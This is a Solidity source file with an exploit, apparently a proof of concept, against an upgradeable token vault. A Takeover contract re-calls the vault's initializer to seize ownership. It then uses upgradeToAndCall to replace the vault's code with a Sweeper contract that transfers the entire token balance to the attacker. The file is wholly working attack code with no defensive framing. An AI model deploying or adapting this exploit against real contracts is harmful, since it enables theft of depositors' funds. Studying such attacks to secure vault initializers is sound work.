// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "./IERC20.sol";
import {UpgradeableVault} from "./UpgradeableVault.sol";

/// @title The code that an attacker gives the vault: it pays out everything.
contract Sweeper {
    function sweep(IERC20 token, address to) external {
        token.transfer(to, token.balanceOf(address(this)));
    }
}

/// @title Attack: initializes the vault anew to be its owner, gives it other code, and empties it.
contract Takeover {
    UpgradeableVault private immutable vault;
    Sweeper private immutable sweeper;
    address private immutable owner;

    constructor(UpgradeableVault vault_) {
        vault = vault_;
        sweeper = new Sweeper();
        owner = msg.sender;
    }

    function attack() external {
        require(msg.sender == owner);
        IERC20 token = vault.token();
        vault.initialize(token, address(this));
        vault.upgradeToAndCall(address(sweeper), abi.encodeCall(Sweeper.sweep, (token, owner)));
    }
}
